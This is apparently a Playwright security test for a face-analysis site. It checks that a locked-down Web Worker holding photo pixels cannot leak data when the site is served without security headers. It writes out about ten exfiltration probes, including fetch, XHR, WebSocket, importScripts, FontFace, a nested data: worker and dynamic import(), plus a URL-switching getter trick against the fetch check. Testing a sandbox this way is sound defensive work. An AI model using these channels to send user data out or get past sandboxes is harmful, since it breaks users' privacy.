/**
 * The face worker holds the photo's pixels. On a host that ignores `_headers` two things keep them
 * in: the worker starts from a `blob:` address, so the page's meta-tag policy holds inside it (which
 * alone stops `import()` from another origin), and its own lockdown
 * (src/lib/face-engine/worker/lock-down-face-worker.ts) closes every network API a script could
 * call. Here the built site is served by a plain static server that sends no security headers;
 * after a full analysis (both models loaded), code run inside the worker tries every way out to a
 * second origin, which records whatever reaches it.
 */
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "@playwright/test";
import { NETWORK_CLOSED_MESSAGE } from "../../src/lib/face-engine/worker-network-lockdown";
import { startEngineServer, type EngineServer } from "../../tools/engine-harness/engine-runner";
import { makePhoto, ONE_FACE } from "../../tools/engine-harness/face-photos";
import { startRecordingServer, type RecordingServer } from "../support/recording-server";
import {
  faceWorker,
  waitForIsland,
  watchConsoleErrors,
  FINAL_MODEL_NOTE,
  choosePhotoAndGender,
} from "../support/site-pages";

/** The build playwright.config.ts serves. */
const BUILD = join(import.meta.dirname, "../..", process.env["SITE_OUT_DIR"] ?? "dist");

// A first visit: no service worker between the face worker and the network.
test.use({ serviceWorkers: "block" });

let site: EngineServer;
let elsewhere: RecordingServer;

test.beforeAll(async () => {
  // The engine harness's static server, mounted on the site's build: files and content types only.
  site = await startEngineServer({ "/": BUILD });
  elsewhere = await startRecordingServer();
});

test.afterAll(async () => {
  await site.close();
  await elsewhere.close();
});

test("served without headers, the face worker can load its models but send nothing anywhere", async ({ page }) => {
  test.setTimeout(360_000);
  const errors = watchConsoleErrors(page);
  // The recording server does record what reaches it.
  await fetch(`${elsewhere.origin}/control`);
  expect(elsewhere.requests).toEqual(["GET /control"]);
  elsewhere.requests.length = 0;

  const response = await page.goto(`${site.origin}/`);
  expect(response?.headers()["content-security-policy"]).toBeUndefined();
  await waitForIsland(page, 'button:has-text("Upload Your Selfie Now")');
  await choosePhotoAndGender(page, await makePhoto(page, "lockdown.jpg", "sample1.jpg", ONE_FACE));
  await page.getByRole("button", { name: "Upload Your Selfie Now" }).click();
  await expect(page.getByRole("dialog", { name: "Analyzing your photo" })).toBeVisible();
  const preview = page.getByRole("dialog", { name: /facial landmarks found/ });
  await expect(preview.getByRole("heading")).toHaveText("68 facial landmarks found", { timeout: 150_000 });
  // The optional full model is fetched after the base model, through the same locked-down fetch.
  await expect(page.getByTestId("classifier-used")).toContainText(FINAL_MODEL_NOTE, {
    timeout: 150_000,
  });

  const worker = await faceWorker(page);
  expect(worker.url()).toMatch(/^blob:/);
  const script = readdirSync(join(BUILD, "_astro")).find((name) => /^face-landmarks\.worker-[\w-]+\.js$/.test(name));
  const workerResponse = await fetch(`${site.origin}/_astro/${script}`);
  expect(workerResponse.ok).toBe(true);
  expect(workerResponse.headers.get("content-security-policy")).toBeNull();

  // Each way out, tried from inside the worker as a script running there would.
  const attempts = await worker.evaluate(async (target) => {
    const scope = self as unknown as {
      importScripts: (url: string) => void;
      caches: CacheStorage | undefined;
      FontFace: new (family: string, source: string) => { load: () => Promise<unknown> };
    };
    const settled = <T extends { onerror: unknown }>(source: T, opened: "onopen" | "onload") =>
      new Promise<void>((resolve, reject) => {
        Object.assign(source, { [opened]: () => resolve(), onerror: () => reject(new Error("connection failed")) });
      });
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(`${target}/fetch?pixels=AAAA`),
      "fetch POST": () => fetch(`${target}/fetch`, { method: "POST", body: "pixels" }),
      XMLHttpRequest: () => {
        const request = new XMLHttpRequest();
        request.open("GET", `${target}/xhr?pixels=AAAA`);
        const done = settled(request, "onload");
        request.send();
        return done;
      },
      WebSocket: () => settled(new WebSocket(`${target.replace("http", "ws")}/socket?pixels=AAAA`), "onopen"),
      EventSource: () => settled(new EventSource(`${target}/events?pixels=AAAA`), "onopen"),
      importScripts: () => scope.importScripts(`${target}/script.js?pixels=AAAA`),
      caches: async () => {
        if (!scope.caches) throw new Error("no caches");
        await (await scope.caches.open("leak")).add(`${target}/cache?pixels=AAAA`);
      },
      FontFace: () => new scope.FontFace("leak", `url(${target}/font?pixels=AAAA)`).load(),
      Worker: () => new Worker(`data:text/javascript,fetch("${target}/nested?pixels=AAAA")`),
      // No script can take import() away: the page's policy, which the worker keeps, refuses it.
      "import()": () => import(/* @vite-ignore */ `${target}/module.js?pixels=AAAA`),
    };
    const outcomes: Record<string, string> = {};
    for (const [way, attempt] of Object.entries(ways)) {
      try {
        await attempt();
        outcomes[way] = "went through";
      } catch (error) {
        outcomes[way] = `stopped: ${error instanceof Error ? error.message : String(error)}`;
      }
    }
    // Give anything started (a nested worker, a font) time to reach the network.
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return outcomes;
  }, elsewhere.origin);

  expect(attempts).toEqual({
    fetch: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    "fetch POST": `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    XMLHttpRequest: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    WebSocket: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    EventSource: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    importScripts: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    caches: "stopped: no caches",
    FontFace: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    Worker: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
    "import()": expect.stringMatching(/^stopped: .*dynamically imported module/),
  });
  expect(elsewhere.requests).toEqual([]);

  // An address that answers a model file when checked and another path of the site when read again:
  // what is fetched is the model file, never the other path.
  const fetched = await worker.evaluate(async () => {
    const modelFile = performance
      .getEntriesByType("resource")
      .map((entry) => entry.name)
      .find((name) => name.endsWith(".bin"));
    if (!modelFile) throw new Error("the worker fetched no model file");
    let reads = 0;
    const shifting = {
      get url() {
        reads += 1;
        return reads === 1 ? modelFile : `${location.origin}/x?d=landmarks`;
      },
    };
    const response = await fetch(shifting as unknown as Request);
    return { modelFile, url: response.url, status: response.status };
  });
  expect(fetched).toEqual({ modelFile: fetched.modelFile, url: fetched.modelFile, status: 200 });
  expect(errors).toEqual([]);
});
